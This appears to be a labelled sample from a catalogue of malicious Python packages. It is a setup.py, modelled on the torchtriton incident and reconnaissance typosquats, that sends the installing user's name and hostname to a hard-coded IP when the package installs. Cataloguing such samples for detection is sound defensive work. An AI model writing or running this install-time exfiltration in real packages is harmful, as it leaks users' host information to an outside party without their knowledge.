# technique: setup.py collects host info and sends it while installing (module level)
# class: install-time
# source: PyTorch "torchtriton" advisory and Checkmarx reconnaissance typosquats
# declares: network
import getpass
import socket

from setuptools import setup

try:
    socket.create_connection(("146.70.87.111", 53), timeout=2).send(
        f"{getpass.getuser()}@{socket.gethostname()}".encode()
    )
except OSError:
    pass

setup(name="example", version="1.0.0")
